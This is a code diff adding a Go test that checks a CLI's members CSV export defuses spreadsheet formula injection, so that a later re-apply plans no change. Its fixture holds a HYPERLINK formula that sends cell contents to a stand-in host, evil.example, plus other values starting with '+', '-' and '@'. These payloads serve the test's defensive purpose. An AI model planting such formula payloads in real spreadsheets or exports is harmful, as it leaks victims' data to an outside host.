@@ -515,3 +515,49 @@ members:
 		t.Error("mallory is not a member")
 	}
 }
+
+// The same on any server (make test-real too), in a project of its own:
+// the formula members' rows are neutralised, and apply of the export with
+// its members CSV plans no change.
+func TestTargetExportMembersCSVNeutralisesFormulas(t *testing.T) {
+	tg := clitest.NewTarget(t)
+	name := tg.Unique("export-formula")
+	p := tg.InitProject(t, name)
+	e := p.SignedIn(t)
+	low := strings.ToLower(name)
+	writeFile(t, e, "made.yaml", `version: 1
+project:
+  name: `+name+`
+members:
+  - externalId: "@ext-`+low+`"
+    firstName: '=HYPERLINK("https://evil.example/?d="&A1,"open")'
+    lastName: "-Ode"
+    role: Patient
+  - email: "+mallory-`+low+`@example.com"
+    firstName: "'=quoted"
+    lastName: "+1"
+    scope: project
+`)
+	if r := e.Run("apply", "-f", "made.yaml", "--yes"); r.Code != 0 {
+		t.Fatalf("apply: %+v", r)
+	}
+	r := e.Run("apply", "export", "--members-csv", "members.csv")
+	if r.Code != 0 || r.Stderr != "" || !strings.HasSuffix(r.Stdout, "\nmembers: members.csv\n") {
+		t.Fatalf("apply export --members-csv: %+v", r)
+	}
+	got, err := os.ReadFile(filepath.Join(e.Home, "members.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(string(got), "\n")
+	for _, row := range []string{
+		`,'@ext-` + low + `,"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",'-Ode,Patient,,false,true,`,
+		"'+mallory-" + low + "@example.com,,''=quoted,+1,Practitioner,,false,true,",
+	} {
+		if !slices.Contains(lines, row) {
+			t.Errorf("members.csv lacks the row\n%s\nit is:\n%s", row, got)
+		}
+	}
+	writeFile(t, e, "project.yaml", r.Stdout)
+	checkPlan(t, e.Run("apply", "-f", "project.yaml", "--dry-run").ExpectCode(t, 0, ""), name, 0)
+}
